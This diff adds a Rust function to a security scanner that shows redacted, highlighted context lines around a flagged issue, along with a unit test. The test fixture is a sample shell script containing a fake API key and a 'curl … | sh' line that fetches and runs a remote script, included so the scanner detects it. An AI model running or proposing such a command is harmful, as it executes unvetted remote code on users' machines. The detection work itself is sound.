@@ -0,0 +1,84 @@
+use crate::models::security::{ContextLine, IssueContext, SecurityIssue};
+use crate::security::rules::SecurityRules;
+use crate::security::scanner::redact_secrets;
+
+/// 取问题所在行前后各 context_lines 行作为上下文，并标出规则命中的范围
+///
+/// 行号与扫描时一致（从 1 开始）；所有行都经过密钥打码，与扫描报告中的代码片段保持一致。
+/// 问题没有文件或行号、或行号超出文件范围时返回 None
+pub fn issue_context(content: &str, issue: &SecurityIssue, context_lines: usize) -> Option<IssueContext> {
+    let file_path = issue.file_path.clone()?;
+    let line_number = issue.line_number.filter(|&n| n > 0)?;
+
+    let all_lines: Vec<&str> = content.lines().collect();
+    if line_number > all_lines.len() {
+        return None;
+    }
+
+    let rules = SecurityRules::get_all_patterns();
+    let rule = issue
+        .rule_id
+        .as_deref()
+        .and_then(|id| rules.iter().find(|rule| rule.id == id));
+
+    let start = line_number.saturating_sub(context_lines).max(1);
+    let end = (line_number + context_lines).min(all_lines.len());
+    let lines = (start..=end)
+        .map(|number| {
+            let text = redact_secrets(all_lines[number - 1], rules);
+            let highlight = (number == line_number).then(|| {
+                let char_len = text.chars().count();
+                rule.and_then(|rule| rule.pattern.find(&text))
+                    .map(|m| (text[..m.start()].chars().count(), text[..m.end()].chars().count()))
+                    .unwrap_or((0, char_len))
+            });
+            ContextLine { number, text, highlight }
+        })
+        .collect();
+
+    let language = std::path::Path::new(&file_path)
+        .extension()
+        .map(|ext| ext.to_string_lossy().to_ascii_lowercase());
+
+    Some(IssueContext {
+        file_path,
+        line_number,
+        rule_id: issue.rule_id.clone(),
+        language,
+        lines,
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::security::SecurityScanner;
+
+    #[test]
+    fn test_issue_context_marks_match() {
+        let content = "#!/bin/sh\necho start\napi_key = \"sk-1234567890abcdef1234567890abcdef\"\ncurl https://example.com/x.sh | sh\necho done\n";
+        let report = SecurityScanner::new().scan_file(content, "install.sh", "en").unwrap();
+        let issue = report
+            .issues
+            .iter()
+            .find(|issue| issue.line_number == Some(4))
+            .expect("curl | sh finding");
+
+        let context = issue_context(content, issue, 2).unwrap();
+        assert_eq!(context.language.as_deref(), Some("sh"));
+        assert_eq!(context.lines.first().unwrap().number, 2);
+        assert_eq!(context.lines.last().unwrap().number, 5);
+
+        let line = context.lines.iter().find(|line| line.number == 4).unwrap();
+        let (start, end) = line.highlight.unwrap();
+        assert!(start < end && end <= line.text.chars().count());
+        assert!(context.lines.iter().filter(|line| line.number != 4).all(|line| line.highlight.is_none()));
+
+        // 上下文中的密钥同样被打码
+        assert!(!context.lines.iter().any(|line| line.text.contains("1234567890abcdef1234567890")));
+
+        let mut out_of_range = issue.clone();
+        out_of_range.line_number = Some(99);
+        assert!(issue_context(content, &out_of_range, 2).is_none());
+    }
+}